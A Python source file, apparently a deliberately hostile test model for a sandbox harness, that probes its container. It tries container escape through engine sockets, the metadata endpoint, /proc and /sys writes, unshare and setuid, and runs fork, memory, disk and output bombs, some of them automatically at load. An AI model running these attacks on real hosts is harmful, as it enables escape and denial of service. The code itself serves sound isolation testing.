"""A model that attacks the place it runs in, and tells what came of it. Runs in the sandbox only; standard library only.

A request is one text: a JSON object with the attack's name and what it needs to know. The harmless attacks are made once more
while the model is loaded; the attack `at_load` answers with what came of those.
"""

import contextlib
import ctypes
import json
import mmap
import os
import signal
import socket
import threading

ATTACKS = {}
AT_LOAD = ("dns", "internet", "metadata", "gateway", "engine", "write", "host")


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def tried(act):
    """Return what came of *act*: its value, or the error in the system's own words."""
    try:
        return f"did it: {act()}"
    except BaseException as error:
        return f"{type(error).__name__}: {error}"


def connect(host, port, *, kind=socket.SOCK_STREAM):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, kind) as made:
        made.settimeout(2)
        made.connect((host, port))
        made.sendall(b"mlgate was here")
    return "connected"


@attack
def dns(names=("pypi.org", "localhost.localdomain", "host.docker.internal"), **_):
    return {name: tried(lambda name=name: socket.getaddrinfo(name, 443)) for name in names}


@attack
def internet(**_):
    places = [("1.1.1.1", 443), ("8.8.8.8", 53), ("2606:4700:4700::1111", 443), ("255.255.255.255", 67)]
    found = {f"{host} tcp": tried(lambda host=host, port=port: connect(host, port)) for host, port in places[:3]}
    found |= {
        f"{host} udp": tried(lambda host=host, port=port: connect(host, port, kind=socket.SOCK_DGRAM))
        for host, port in places
    }
    found["raw"] = tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
    found["packet"] = tried(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
    found["interfaces"] = [name for _, name in socket.if_nameindex()]
    return found


@attack
def metadata(**_):
    return {host: tried(lambda host=host: connect(host, 80)) for host in ("169.254.169.254", "fd00:ec2::254")}


@attack
def gateway(places=(("172.17.0.1", 22), ("172.17.0.1", 2375)), **_):
    return {f"{host}:{port}": tried(lambda host=host, port=port: connect(host, port)) for host, port in places}


@attack
def engine(**_):
    paths = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock"]

    def speak(path):
        with socket.socket(socket.AF_UNIX) as made:
            made.connect(path)
            return "connected"

    return {path: tried(lambda path=path: speak(path)) for path in paths}


@attack
def write(**_):
    """Try to make a file in every folder there is; return those where it worked, and what else gave way."""
    worked = []
    for folder, folders, _files in os.walk("/"):
        if folder.startswith("/proc"):
            folders.clear()
            continue
        path = os.path.join(folder, "mlgate-was-here")
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
            os.unlink(path)
            worked.append(folder)
    files = [
        "/proc/sys/kernel/core_pattern",
        "/proc/sysrq-trigger",
        "/sys/fs/cgroup/memory/memory.limit_in_bytes",
        "/sys/fs/cgroup/memory.max",
        "/sys/kernel/uevent_helper",
        "/proc/1/oom_score_adj",
    ]
    libc = ctypes.CDLL(None, use_errno=True)

    def mount():
        if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None):
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))

    def unshare():
        if libc.unshare(0x10000000):  # CLONE_NEWUSER: with it one would be root, and mount
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))

    def setuid():
        os.setuid(0)

    found = {path: tried(lambda path=path: open(path, "w").write("1")) for path in files[:-1]}
    return {
        "folders": worked,
        "files": found,
        "mount": tried(mount),
        "unshare": tried(unshare),
        "setuid": tried(setuid),
    }


@attack
def host(paths=("/host", "/proc/kcore", "/dev/mem", "/dev/vda", "/dev/sda"), **_):
    def read(path):
        with open(path, "rb") as file:
            return len(file.read(16))

    found = {path: tried(lambda path=path: read(path)) for path in paths}
    found["processes"] = sum(name.isdigit() for name in os.listdir("/proc"))
    found["environment"] = sorted(os.environ)
    found["mounts"] = [line.split()[1:4] for line in open("/proc/self/mounts")]
    return found


@attack
def fork_bomb(**_):
    """Every child forks for ever; return what ended this one's own forking."""
    error, made = "", 0
    try:
        while made < 10_000:
            if os.fork() == 0:
                signal.alarm(20)
                while True:
                    with contextlib.suppress(OSError):
                        os.fork()
            made += 1
    except OSError as caught:
        error = f"{type(caught).__name__}: {caught}"
    running = sum(name.isdigit() for name in os.listdir("/proc"))
    # Stopped first: one that is killed makes room for the child of another.
    for number in (signal.SIGSTOP, signal.SIGKILL):
        with contextlib.suppress(OSError):
            os.kill(-1, number)
    with contextlib.suppress(ChildProcessError):
        while True:  # the orphans are ours: this is process 1
            os.waitpid(-1, 0)
    return {"made": made, "error": error, "running": running}


@attack
def thread_bomb(**_):
    over, made = threading.Event(), 0
    try:
        while made < 10_000:
            threading.Thread(target=over.wait, daemon=True).start()
            made += 1
        return {"made": made, "error": ""}
    except RuntimeError as error:
        return {"made": made, "error": str(error)}
    finally:
        over.set()


@attack
def memory_bomb(**_):
    """Take memory until somebody stops it: in a child, so that somebody can tell."""
    child = os.fork()
    if child == 0:
        held = []
        while True:
            block = mmap.mmap(-1, 64 << 20)
            for page in range(0, len(block), 4096):
                block[page] = 1
            held.append(block)
    return {"status": os.waitpid(child, 0)[1]}


@attack
def shm_bomb(**_):
    """The memory that is no process's: files in /dev/shm."""
    return fill("/dev/shm")


def fill(folder, *, files=1, limit=4 << 30):
    size, error = 0, ""
    path = os.path.join(folder, "filled")
    try:
        with open(path, "wb", buffering=0) as file:
            while size < limit:
                size += file.write(bytes(1 << 18))
    except OSError as caught:
        error = f"{type(caught).__name__}: {caught}"
    with contextlib.suppress(OSError):
        os.unlink(path)
    return {"bytes": size, "error": error}


@attack
def disk(folder="/tmp", **_):
    return fill(folder)


@attack
def many_files(folder="/run/mlgate", limit=20_000, **_):
    made, error = 0, ""
    try:
        for number in range(limit):
            os.close(os.open(os.path.join(folder, f"n{number}"), os.O_CREAT))
            made += 1
    except OSError as caught:
        error = f"{type(caught).__name__}: {caught}"
    for number in range(made):
        os.unlink(os.path.join(folder, f"n{number}"))
    return {"made": made, "error": error}


@attack
def flood(megabytes=1024, **_):
    line = b"x" * 1023 + b"\n"
    block = line * 1024
    written = 0
    while written < megabytes << 20:
        written += os.write(1, block)
    return {"written": written}


HELD = []


@attack
def listen(port=9999, **_):
    made = socket.socket()
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    made.bind(("0.0.0.0", port))
    made.listen()
    HELD.append(made)
    return {"own": tried(lambda: connect("127.0.0.1", port))}


@attack
def poison(**_):
    """Take the server's place: remove its socket and listen there itself."""
    os.unlink("/run/mlgate/server.sock")
    made = socket.socket(socket.AF_UNIX)
    made.bind("/run/mlgate/server.sock")
    made.listen()
    HELD.append(made)
    return "listening"


@attack
def core(**_):
    """Crash a child with a gigabyte in memory."""
    child = os.fork()
    if child == 0:
        ctypes.string_at(0)
    status = os.waitpid(child, 0)[1]
    return {"signal": os.WTERMSIG(status), "dumped": os.WCOREDUMP(status)}


@attack
def at_load(**_):
    return DONE_AT_LOAD


DONE_AT_LOAD = {name: ATTACKS[name]() for name in AT_LOAD}


class Model:
    def predict(self, rows):
        request = json.loads(str(rows[0]))
        return json.dumps(ATTACKS[request.pop("attack")](**request))
